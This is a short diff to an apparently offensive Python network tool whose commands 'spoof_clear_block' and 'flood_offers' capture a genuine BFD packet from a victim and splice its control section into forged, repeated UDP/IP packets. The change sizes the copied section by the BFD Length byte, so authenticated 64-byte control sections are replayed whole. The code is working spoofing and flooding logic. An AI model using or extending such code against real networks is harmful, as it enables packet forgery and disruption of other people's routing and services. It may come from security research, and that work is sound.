@@ -444,7 +444,8 @@ def cmd_spoof_clear_block(a):
         if fr is None:
             print(f"no genuine BFD packet seen on the IPv{fam} path", file=sys.stderr)
             continue
-        bfd = p["payload"][:24]
+        # The whole control section as BFD Length says (64 bytes once authenticated).
+        bfd = p["payload"][:p["payload"][3]]
         for _ in range(a.count):
             for blk in blocks.values():
                 ip = udp_ip(p["src"], p["dst"], p["sport"], BFD_PORT, bfd + blk)
@@ -557,7 +558,7 @@ def cmd_flood_offers(a):
         for fam in (4, 6):
             fr, p = genuine_bfd(wan, a.victim, fam)
             if fr is not None:
-                live[is6(p["src"])] = p["payload"][:24]
+                live[is6(p["src"])] = p["payload"][:p["payload"][3]]
         spliced = []
         for fr in frames:
             p = parse(fr)
